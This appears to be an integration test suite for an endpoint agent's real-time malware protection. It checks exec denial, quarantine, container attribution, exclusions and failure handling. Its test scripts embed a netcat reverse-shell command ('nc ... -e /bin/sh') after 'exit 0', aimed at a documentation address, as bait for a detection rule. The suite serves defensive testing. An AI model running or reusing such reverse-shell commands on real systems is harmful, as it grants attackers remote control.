import { execFile, execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { linkLimits } from '@ringwall/contracts'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { canMount, createSite, eicar, type Json, type Site, waitFor } from './harness.ts'

const runs = promisify(execFile)
const image = join(import.meta.dirname, '../../packages/kernel/src/testdata/image.c')
/** A tree of cgroups: the one of version 2, or one of those of version 1. */
const cgroups =
  ['', '/unified', '/systemd', '/freezer']
    .map((name) => `/sys/fs/cgroup${name}`)
    .find((path) => existsSync(join(path, 'cgroup.procs'))) ?? '/nowhere'

/** Whether processes can be put into a cgroup of their own. */
function canMakeCgroups(): boolean {
  const probe = join(cgroups, `ringwall-probe-${process.pid}`)
  try {
    mkdirSync(probe)
    rmdirSync(probe)
    return true
  } catch {
    return false
  }
}
const isPossible = canMount()
if (!isPossible) process.stderr.write('realtime.test: skipped, this account may not mount\n')

let site: Site
let machineId: string
/** A file system of its own: what the agent guards there holds nothing else on this machine. */
let guarded: string
/** That, and where a container and a disk come and go. */
const watched = () => [guarded, join(guarded, 'container/root'), join(guarded, 'disk')].join(':')

/** Bad by the rule reverse_shell_netcat_exec; leaves a mark when it runs, and nothing else (RFC 5737 address). */
const script = (marker: string) =>
  `#!/bin/sh\ntouch ${join(guarded, marker)}\nexit 0\nnc 192.0.2.1 4444 -e /bin/sh\n`

async function exec(path: string): Promise<string> {
  try {
    await runs(path)
    return 'ran'
  } catch (error) {
    return String((error as { code?: unknown }).code)
  }
}
async function figures(): Promise<Json> {
  const { machine } = await site.get<{ machine: { agent: { realtime: Json | null } } }>(
    `/machines/${machineId}`,
  )
  if (machine.agent.realtime === null) throw new Error('no figures yet')
  return machine.agent.realtime
}
async function setPolicy(realtime: Json, rest: Json = {}): Promise<void> {
  const { policy } = await site.get<{ policy: Json }>('/policies/malware')
  const { status } = await site.api('PUT', '/policies/malware', {
    ...policy,
    ...rest,
    realtime: { ...(policy.realtime as Json), ...realtime },
  })
  expect(status).toBe(200)
  await waitFor('the policy to be applied', async () => {
    const { machine } = await site.get<{ machine: Json }>(`/machines/${machineId}`)
    return machine.appliedVersion === machine.desiredVersion ? true : undefined
  })
  // Applied, and told to the helper.
  await new Promise((resolve) => setTimeout(resolve, 500))
}
const agentPid = () => site.running.get('agent')?.pid ?? 0
function helperPid(): number {
  const children = readFileSync(`/proc/${agentPid()}/task/${agentPid()}/children`, 'utf8').trim().split(' ')
  const found = children.find((pid) => readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes('permission'))
  if (found === undefined) throw new Error('no helper')
  return Number(found)
}
const isGuarded = async () =>
  await waitFor('the guard', async () => {
    writeFileSync(join(guarded, 'probe'), script('probe-ran'), { mode: 0o755 })
    const result = await exec(join(guarded, 'probe'))
    rmSync(join(guarded, 'probe-ran'), { force: true })
    return result === 'EPERM' ? true : undefined
  })

describe.skipIf(!isPossible)('real-time protection', () => {
  beforeAll(async () => {
    guarded = realpathSync(mkdtempSync(join(tmpdir(), 'ringwall-guarded-')))
    execFileSync('mount', ['-t', 'tmpfs', 'tmpfs', guarded])
    site = await createSite()
    await site.startScanner()
    machineId = await site.startAgent('agent', { RINGWALL_AGENT_WATCH: watched() })
    await setPolicy({ budgetMs: 30_000 })
    await isGuarded()
  })
  afterAll(async () => {
    await site?.close()
    if (guarded === undefined) return
    execFileSync('umount', ['-l', guarded])
    rmSync(guarded, { recursive: true })
  })

  it('stops a bad program, takes it away and tells who wanted it', async () => {
    const path = join(guarded, 'bad.sh')
    writeFileSync(path, script('bad-ran'), { mode: 0o755 })
    expect(await exec(path)).toBe('EPERM')
    expect(existsSync(join(guarded, 'bad-ran'))).toBe(false)
    const found = await waitFor('the finding', async () =>
      (await site.list('/findings')).find((finding) => finding.path === path),
    )
    await waitFor('the vault', async () => (existsSync(path) ? undefined : true))
    const { finding } = await site.get<{ finding: Json }>(`/findings/${String(found.id)}`)
    expect(finding).toMatchObject({
      scanId: null,
      state: 'quarantined',
      realtime: { operation: 'exec', wasDenied: true },
    })
    const { processes } = finding.realtime as { processes: Json[] }
    expect(processes[0]).toMatchObject({ uid: 0, container: null })
    expect(processes.some(({ pid }) => pid === process.pid)).toBe(true)
  })

  it.skipIf(!canMakeCgroups())('tells which container wanted it, and finds the file here', async () => {
    const id = randomBytes(32).toString('hex')
    // What a container has: a root of its own on an overlay, its own mount namespace, a cgroup with its id.
    const names = ['lower', 'upper', 'work', 'root'] as const
    const [lower, upper, workdir, root] = names.map((name) => join(guarded, 'container', name)) as [
      string,
      string,
      string,
      string,
    ]
    for (const folder of [lower, upper, workdir, root]) mkdirSync(folder, { recursive: true })
    writeFileSync(join(lower, 'bad.sh'), '#!/shell\nexit 0\nnc 192.0.2.1 4444 -e /bin/sh\n', { mode: 0o755 })
    execFileSync('gcc', ['-Os', '-static', '-nostdlib', '-o', join(lower, 'shell'), image])
    const layers = `lowerdir=${lower},upperdir=${upper},workdir=${workdir}`
    execFileSync('mount', ['-t', 'overlay', 'overlay', '-o', layers, root])
    const cgroup = join(cgroups, `docker-${id}.scope`)
    mkdirSync(cgroup)
    try {
      const enter = 'echo $$ > "$1/cgroup.procs" && exec unshare --mount chroot "$2" /bad.sh'
      await waitFor('the container to be held', async () =>
        (
          await runs('sh', ['-c', enter, 'sh', cgroup, root]).then(
            () => '',
            (error: { stderr: string }) => error.stderr,
          )
        ).includes('not permitted')
          ? true
          : undefined,
      )
      const path = join(root, 'bad.sh')
      const found = await waitFor('the finding', async () =>
        (await site.list('/findings')).find((finding) => finding.path === path),
      )
      const { finding } = await site.get<{ finding: Json }>(`/findings/${String(found.id)}`)
      const { processes } = finding.realtime as { processes: Json[] }
      expect(processes[0]).toMatchObject({ container: id })
    } finally {
      execFileSync('umount', ['-l', root])
      await waitFor('the cgroup to be empty', async () => {
        rmdirSync(cgroup)
        return true
      })
    }
  })

  it('lets good programs run, and knows them from then on', async () => {
    const path = join(guarded, 'true')
    copyFileSync('/bin/true', path)
    // What the test before did must be in the figures already: heartbeats tell them, and are stored now and then.
    await new Promise((resolve) => setTimeout(resolve, 2 * linkLimits.heartbeatIntervalMs + 1_000))
    const before = await waitFor('the first figures', figures)
    for (let round = 0; round < 20; round += 1) expect(await exec(path)).toBe('ran')
    const now = await waitFor('the figures', async () => {
      const told = await figures()
      return Number(told.judged) > Number(before.judged) ? told : undefined
    })
    expect(now).toMatchObject({ mode: 'exec', problem: null, timeouts: 0 })
    // Judged once for twenty starts: afterwards the kernel passes it by itself, and no answer is timed.
    expect(Number(now.judged) - Number(before.judged)).toBe(1)
  })

  it('knows what a scan has judged before it is started for the first time', async () => {
    const disk = join(guarded, 'disk')
    mkdirSync(disk)
    execFileSync('truncate', ['-s', '32M', `${disk}.img`])
    execFileSync('mkfs.ext4', ['-q', '-I', '256', `${disk}.img`])
    execFileSync('mount', ['-o', 'loop', `${disk}.img`, disk])
    try {
      const paths = ['a', 'b', 'c'].map((name) => join(disk, name))
      for (const path of paths) copyFileSync('/bin/true', path)
      // What changed just before it was judged is not believed.
      await new Promise((resolve) => setTimeout(resolve, 3_000))
      const scan = await site.endOf(await site.startScan(machineId, [disk]))
      expect(scan).toMatchObject({ state: 'completed' })
      await new Promise((resolve) => setTimeout(resolve, 2 * linkLimits.heartbeatIntervalMs + 1_000))
      const before = await figures()
      for (const path of paths) expect(await exec(path)).toBe('ran')
      const now = await waitFor('the figures', async () => {
        const told = await figures()
        return Number(told.fromTable) >= Number(before.fromTable) + paths.length ? told : undefined
      })
      expect(now.judged).toBe(before.judged)
    } finally {
      execFileSync('umount', ['-l', disk])
    }
  })

  it('leaves excluded contents, programs and paths alone', async () => {
    const path = join(guarded, 'excluded.sh')
    writeFileSync(path, script('excluded-ran'), { mode: 0o755 })
    const sha256 = execFileSync('sha256sum', [path]).toString().slice(0, 64)
    await setPolicy({ excludeHashes: [sha256] })
    expect(await exec(path)).toBe('ran')
    await setPolicy({ excludeHashes: [], excludeProcesses: [process.execPath] })
    expect(await exec(path)).toBe('ran')
    mkdirSync(join(guarded, 'free'))
    copyFileSync(path, join(guarded, 'free/excluded.sh'))
    await setPolicy({ excludeProcesses: [] }, { excludePaths: [join(guarded, 'free')] })
    expect(await exec(join(guarded, 'free/excluded.sh'))).toBe('ran')
    expect(await exec(path)).toBe('EPERM')
  })

  it('only reports where the policy says so', async () => {
    await setPolicy({}, { action: 'report', excludePaths: [] })
    const path = join(guarded, 'reported.sh')
    writeFileSync(path, script('reported-ran'), { mode: 0o755 })
    expect(await exec(path)).toBe('ran')
    const found = await waitFor('the finding', async () =>
      (await site.list('/findings')).find((finding) => finding.path === path),
    )
    expect(found).toMatchObject({ state: 'reported' })
    await setPolicy({}, { action: 'quarantine' })
  })

  it('stops opening a bad file by mode', async () => {
    await setPolicy({ mode: 'exec-and-open' })
    const path = join(guarded, 'document')
    writeFileSync(path, eicar)
    await waitFor('the open to be denied', async () => {
      if (!existsSync(path)) writeFileSync(path, eicar)
      return await runs('/bin/cat', [path]).then(
        () => undefined,
        (error: { stderr: string }) => (error.stderr.includes('not permitted') ? true : undefined),
      )
    })
    await setPolicy({ mode: 'exec' })
    await isGuarded()
  })

  it('lets nobody wait when the helper is killed, and guards again', async () => {
    process.kill(helperPid(), 'SIGKILL')
    const path = join(guarded, 'while-down')
    copyFileSync('/bin/true', path)
    expect(await exec(path)).toBe('ran')
    await isGuarded()
  })

  it('goes on while the agent is stopped, and after it was killed', async () => {
    await setPolicy({ budgetMs: 300 })
    process.kill(agentPid(), 'SIGSTOP')
    for (let index = 0; index < 6; index += 1) {
      const path = join(guarded, `stopped-${index}`)
      copyFileSync('/bin/true', path)
      expect(await exec(path)).toBe('ran')
    }
    await site.running.get('agent')?.kill('SIGKILL')
    const path = join(guarded, 'killed')
    copyFileSync('/bin/true', path)
    expect(await exec(path)).toBe('ran')
    await site.start('agent', 'agent', { RINGWALL_AGENT_WATCH: watched() })
    await setPolicy({ budgetMs: 30_000 })
    await isGuarded()
  })

  it('says that nobody judges, and goes by the policy, while the scanner is away', async () => {
    await site.running.get('scanner')?.kill('SIGKILL')
    const path = join(guarded, 'unjudged.sh')
    writeFileSync(path, script('unjudged-ran'), { mode: 0o755 })
    expect(await exec(path)).toBe('ran')
    await waitFor('the problem', async () => {
      const { machine } = await site.get<{ machine: Json }>(`/machines/${machineId}`)
      return (machine.problems as string[]).includes('realtime_unjudged') ? true : undefined
    })
    await setPolicy({ whenScannerAway: 'deny' })
    const other = join(guarded, 'denied')
    copyFileSync('/bin/true', other)
    chmodSync(other, 0o755)
    expect(await exec(other)).toBe('EPERM')
    await site.restartScanner()
    // What went on without a verdict is looked at now.
    await waitFor('the second look', async () => (existsSync(path) ? undefined : true))
    await setPolicy({ whenScannerAway: 'allow' })
    await waitFor('the end of the problem', async () => {
      const { machine } = await site.get<{ machine: Json }>(`/machines/${machineId}`)
      return (machine.problems as string[]).includes('realtime_unjudged') ? undefined : true
    })
    expect(readdirSync(guarded)).not.toContain('bad-ran')
  })
})
